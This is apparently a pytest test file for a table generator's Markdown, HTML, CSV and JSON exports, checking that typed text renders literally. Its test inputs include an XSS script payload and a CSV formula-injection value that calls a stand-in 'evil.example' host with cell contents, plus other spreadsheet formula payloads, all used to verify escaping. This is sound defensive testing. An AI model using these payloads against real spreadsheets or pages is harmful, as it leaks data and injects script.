"""Tables in the forms other programs read: the same text in all of them, whatever somebody typed."""

from __future__ import annotations

import csv
import importlib
import io
import json
import sys
from collections.abc import Sequence
from datetime import date
from pathlib import Path

import pytest
import reading

from generator import exports
from generator.exports import csv as csv_export
from generator.exports import html, markdown
from generator.table import Cell, Column, Detail, Link, Row, Table

# What people type into notes, labels and summaries: none of it is markup, a template or a formula.
TYPED = {
    "pipe": "AWQ | GPTQ",
    "pipe in backticks": "`--dtype auto|fp8`",
    "escaped pipe": r"a \| b",
    "braces": "set ${{ github.workspace }} and {{ bos_token }}",
    "tags of a template": "{% raw %}{{ x }}{% endraw %}",
    "latex": r"$\frac{{a}}{{b}}$",
    "attributes": "name {: #id .class }",
    "link": "Guide [v2](https://example.org/a_(b)?q=x|z) | draft",
    "reference": "[v2][1] and ![image](x.png) and <https://example.org>",
    "script": "[x](javascript:alert(1)) <script>alert(1)</script>",
    "emphasis": "*a* _b_ **c** ~~d~~ __init__",
    "entities": "AT&amp;T &#124; R&D",
    "list": "- second, looks like a list",
    "numbers": "1. first",
    "heading": "# not a heading",
    "quote": "> not a quotation",
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "chinese": "混合专家 (MoE) — naïve “quotes” ≥ 24 GB 🌲",
    "backslash": "C:\\new\\half\\",
    "footnote": "text[^1]",
}


def of_texts(*texts: str, note: str = "") -> Table:
    """A table of one row with these texts, and one column that must stay the last."""
    columns = (*(Column(f"c{index}", text) for index, text in enumerate(texts)), Column("end", "End"))
    cells = (*(Cell(text, note=note) for text in texts), Cell("the end"))
    return Table("t", "A table", "Summary.", "Thing", columns, (Row("row", Link(texts[0]), cells),))


@pytest.mark.parametrize("reader", reading.READERS)
@pytest.mark.parametrize("text", TYPED.values(), ids=TYPED)
def test_markdown_shows_a_cell_as_typed(reader: str, text: str) -> None:
    """One cell, with the text exactly as typed and nothing in it alive, in both kinds of Markdown reader."""
    page = reading.READERS[reader](markdown.render(of_texts(text)))
    head, row = page.rows
    assert [cell.text for cell in head] == ["Thing", text, "End"]
    assert [cell.text for cell in row] == [text, text, "the end"]
    assert not [node.tag for cell in [*head, *row] for node in cell.all()]


@pytest.mark.parametrize("reader", reading.READERS)
@pytest.mark.parametrize("text", TYPED.values(), ids=TYPED)
def test_markdown_shows_a_note_as_typed(reader: str, text: str) -> None:
    """Notes stand below the table as a numbered list of plain texts."""
    page = reading.READERS[reader](markdown.render(of_texts("yes", note=text)))
    (note,) = page.all("ol")
    assert note.text.strip() == text
    assert {node.tag for node in note.all()} <= {"li", "p"}
    assert page.rows[1][1].text == "yes 1"


@pytest.mark.parametrize("reader", reading.READERS)
@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_line_breaks_keep_one_row(reader: str, newline: str) -> None:
    """Breaks in a cell are shown as breaks, blank lines and the last newline are not, and the row stays one row."""
    text = newline.join(["First line", "- second, looks like a list", "", "after a blank line", ""])
    page = reading.READERS[reader](markdown.render(of_texts(text)))
    assert len(page.rows) == 2
    assert [cell.text for cell in page.rows[1]][1:] == [
        "First line\n- second, looks like a list\nafter a blank line",
        "the end",
    ]


def test_line_breaks_in_csv_and_json_stay_as_they_are() -> None:
    """CSV keeps a newline inside quotes, JSON as it is."""
    text = "First line\n\nafter a blank line"
    assert list(csv.reader(io.StringIO(csv_export.render(of_texts(text)), newline="")))[1][1] == text
    assert json.loads(exports.formats()["json"](of_texts(text)))["rows"][0]["cells"]["c0"]["text"] == text


@pytest.mark.parametrize("text", TYPED.values(), ids=TYPED)
def test_html_shows_text_as_typed(text: str) -> None:
    """Text of data is text in HTML, in cells, heads, notes and labels, and its links are the ones we made."""
    cell = Cell(
        text, note=text, details=(Detail("Note", text), Detail("Source", links=(Link(text, url="https://a.b"),)))
    )
    page = reading.read(
        html.render(Table("t", text, "", text, (Column("c", text, title=text),), (Row("r", Link(text), (cell,)),)))
    )
    assert {node.tag for node in page.all()} == {
        "div", "table", "thead", "tbody", "tr", "th", "td", "button", "span", "strong", "p", "dl", "dt", "dd", "a",
    }  # fmt: skip
    assert page.links == [(text, "https://a.b")]
    assert [head.text for head in page.all("th")] == [text, text, text]
    assert page.all("th")[1].attributes["title"] == page.all("div")[0].attributes["aria-label"] == text
    assert page.all("dd")[0].text == text


def test_html_links_have_the_right_target_and_text() -> None:
    """Brackets, pipes, quotes and parentheses in a link end neither its text nor its target."""
    link = Link('Guide [v2] | "draft"', url='https://example.org/a_(b)?q=x&y=<z>|"')
    page = reading.read(html.anchor(link, "index.md"))
    assert page.links == [(link.text, link.url)]


# Four different things that must not look alike: zero, no, nothing to say, and not stated.
FOUR = (Cell("0"), Cell("no", state="unsupported", mark="✗"), Cell(""), Cell("unknown", state="unknown", mark="?"))
WANTED = {
    "csv": ["0", "no", "", "unknown"],
    "md": ["0", "✗ no", "", "? unknown"],
    "html": ["0", "✗ no", "", "? unknown"],
    "json": [("0", None), ("no", "unsupported"), ("", None), ("unknown", "unknown")],
}


def cells_of(suffix: str, text: str) -> Sequence[object]:
    """The cells of the one row of an export."""
    if suffix == "csv":
        return list(csv.reader(io.StringIO(text, newline="")))[1][1:]
    if suffix == "json":
        return [(cell["text"], cell["state"]) for cell in json.loads(text)["rows"][0]["cells"].values()]
    page = reading.commonmark(text) if suffix == "md" else reading.read(text)
    return [cell.text for cell in page.rows[1]][1:]


@pytest.mark.parametrize("suffix", WANTED)
def test_zero_no_empty_and_unknown_look_different(suffix: str) -> None:
    """Every export keeps 0, no, empty and not stated apart."""
    columns = tuple(Column(name, name) for name in "abcd")
    text = exports.formats()[suffix](Table("t", "T", "", "Thing", columns, (Row("r", Link("r"), FOUR),)))
    assert cells_of(suffix, text) == WANTED[suffix]


@pytest.mark.parametrize(
    "formula",
    [TYPED["formula"], "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1", "-", "--dtype auto"],
)
def test_csv_makes_formulas_harmless(formula: str) -> None:
    """What a spreadsheet would run gets an apostrophe in CSV, also in heads, and stays as typed in JSON."""
    table = of_texts(formula)
    for line in csv.reader(io.StringIO(csv_export.render(table), newline="")):
        assert f"'{formula}" in line
        assert formula not in line
    assert json.loads(exports.formats()["json"](table))["rows"][0]["cells"]["c0"]["text"] == formula


@pytest.mark.parametrize("text", ["-1", "+2.5", "-40%", "1e5", "a=b", "'quoted"])
def test_csv_leaves_numbers_and_plain_text_alone(text: str) -> None:
    """A signed number is no formula."""
    assert csv_export.harmless(text) == text


def test_csv_is_utf_8_without_a_mark_and_has_the_lines_of_rfc_4180() -> None:
    """Chinese heads come back whole, also through a reader that expects a byte-order mark."""
    raw = csv_export.render(of_texts(TYPED["chinese"])).encode("utf-8")
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == raw.count(b"\n") == 2
    assert next(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1] == TYPED["chinese"]


def test_json_carries_what_stands_behind_a_cell() -> None:
    """State, note, freshness, day, address and sources of each cell are there by name."""
    cell = Cell(
        "yes",
        state="supported",
        mark="✓",
        freshness="due",
        note="A note.",
        as_of=date(2026, 1, 10),
        details=(Detail("Sources", links=(Link("Readme", url="https://a.b"), Link("Paper"))), Detail("Checked", "now")),
        address="engines/x:formats.y",
    )
    table = Table("t", "T", "S", "Thing", (Column("c", "C", group="G"),), (Row("r", Link("R"), (cell,), "g"),))
    found = json.loads(exports.formats()["json"](table))
    assert found["columns"] == [{"id": "c", "label": "C", "group": "G"}]
    assert found["rows"][0]["cells"]["c"] == {
        "text": "yes",
        "state": "supported",
        "note": "A note.",
        "freshness": "due",
        "as_of": "2026-01-10",
        "statement": "engines/x:formats.y",
        "details": {"Sources": [{"text": "Readme", "url": "https://a.b"}, {"text": "Paper"}], "Checked": "now"},
    }
    assert found["coverage"]["due"] == 1
    assert found["coverage"]["oldest"] == found["coverage"]["newest"] == "2026-01-10"


def test_html_names_column_and_row_groups() -> None:
    """Columns of a group share one head above them; each group of rows has a head of its own."""
    columns = (Column("a", "A", group="One"), Column("b", "B", group="One"), Column("c", "C", group="Two"))
    cells = (Cell("1"), Cell("2"), Cell("3"))
    rows = (
        Row("r", Link("R"), cells, "First"),
        Row("s", Link("S"), cells, "First"),
        Row("t", Link("T"), cells, "Last"),
    )
    page = reading.read(html.render(Table("t", "T", "", "Thing", columns, rows)))
    groups = [(th.text, th.attributes["colspan"]) for th in page.all("th") if th.attributes["scope"] == "colgroup"]
    assert groups == [("One", "2"), ("Two", "1")]
    assert [th.text for th in page.all("th") if th.attributes["scope"] == "rowgroup"] == ["First", "Last"]
    assert page.ids == [*(f"{row}{tail}" for row in "rst" for tail in ("", "--a", "--b", "--c"))]


def test_an_export_is_found_by_being_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A module dropped into the folder of exports is an export, with no list to extend."""
    (tmp_path / "plaintext.py").write_text(
        "SUFFIX = 'txt'\ndef render(table):\n    return table.title\n", encoding="utf-8"
    )
    monkeypatch.setattr(exports, "__path__", [*exports.__path__, str(tmp_path)])
    importlib.invalidate_caches()
    try:
        found = exports.formats()
    finally:
        sys.modules.pop("generator.exports.plaintext", None)
    assert sorted(found) == ["csv", "html", "json", "md", "txt"]
    assert found["txt"](of_texts("x")) == "A table"
